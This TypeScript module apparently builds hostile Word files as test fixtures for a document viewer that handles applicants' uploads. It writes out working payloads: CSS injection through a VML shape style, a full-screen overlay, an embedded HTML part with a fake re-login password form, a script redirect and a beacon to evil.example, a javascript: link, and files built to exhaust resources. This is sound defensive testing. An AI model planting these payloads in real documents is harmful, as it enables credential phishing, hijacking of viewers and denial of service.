import JSZip from 'jszip';

/** Stands in each style of an attack. */
export const MARKED = 'hostile-style';

const WORD = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const NAMESPACES = `xmlns:w="${WORD}" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"`;
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';
const COVER = 'position:fixed;left:0;top:0;width:100vw;height:100vh;z-index:2147483647;background:red';

export interface Attack {
  /** Of the applicant. */
  name: string;
  bytes: Buffer;
  /** Words that are shown; undefined where nothing of it is opened. */
  words: string | undefined;
}

/** Word files that try to leave their frame, each in a way that once worked. */
export async function hostileWord(): Promise<Attack[]> {
  return [
    {
      name: '四面出击',
      words: '安分守己',
      bytes: await wordFile(
        { 'word/numbering.xml': numbering, 'word/part.html': login },
        `${listed}${shape}<w:altChunk r:id="rChunk"/>${link}${paragraph('安分守己')}`,
      ),
    },
    { name: '两百万段', words: undefined, bytes: await wordFile({}, '<w:p/>'.repeat(2_000_000)) },
    { name: '格子成山', words: undefined, bytes: await wordFile({}, table(90_000)) },
  ];
}

const paragraph = (text: string) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;

/** A bullet's style goes into a style sheet as it is. */
const numbering = `${XML}<w:numbering ${NAMESPACES}><w:numPicBullet w:numPicBulletId="0"><w:pict><v:shape style="} body::after{content:'${MARKED}';${COVER}} button[aria-keyshortcuts]{${COVER};opacity:0} .x{"><v:imagedata r:id="rNone"/></v:shape></w:pict></w:numPicBullet><w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="bullet"/><w:lvlText w:val="•"/><w:lvlPicBulletId w:val="0"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>`;
const listed =
  '<w:p><w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>列表</w:t></w:r></w:p>';

const shape = `<w:p><w:r><w:pict><v:rect style="${COVER}" fillcolor="red" title="${MARKED}"/></w:pict></w:r></w:p>`;

const login = `<html><body style="${COVER}"><form action="https://evil.example/"><input name="password" autofocus placeholder="会话已过期，请重新登录"></form><a target="_top" href="https://evil.example/">登录</a><script>top.location='https://evil.example/'</script><img src="https://evil.example/x.png"></body></html>`;

const link = '<w:p><w:hyperlink r:id="rLink"><w:r><w:t>作品集</w:t></w:r></w:hyperlink></w:p>'.repeat(60);

const table = (cells: number) =>
  `<w:tbl>${`<w:tr>${'<w:tc><w:p/></w:tc>'.repeat(50)}</w:tr>`.repeat(cells / 50)}</w:tbl>`;

function wordFile(parts: Record<string, string>, body: string): Promise<Buffer> {
  const zip = new JSZip();
  const relations = [
    ['rNumbering', `${OFFICE}/numbering`, 'numbering.xml', ''],
    ['rChunk', `${OFFICE}/aFChunk`, 'part.html', ''],
    ['rLink', `${OFFICE}/hyperlink`, 'javascript:top.location=1', ' TargetMode="External"'],
  ].map(([id, type, target, mode]) => `<Relationship Id="${id}" Type="${type}" Target="${target}"${mode}/>`);
  const related = (list: string) =>
    `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${list}</Relationships>`;
  zip.file(
    '[Content_Types].xml',
    `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="html" ContentType="text/html"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
  );
  zip.file(
    '_rels/.rels',
    related(`<Relationship Id="r1" Type="${OFFICE}/officeDocument" Target="word/document.xml"/>`),
  );
  zip.file('word/_rels/document.xml.rels', related(relations.join('')));
  zip.file(
    'word/document.xml',
    `${XML}<w:document ${NAMESPACES}><w:body>${body}<w:sectPr><w:pgSz w:w="11906" w:h="16838"/></w:sectPr></w:body></w:document>`,
  );
  for (const [name, text] of Object.entries(parts)) zip.file(name, text);
  return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
}
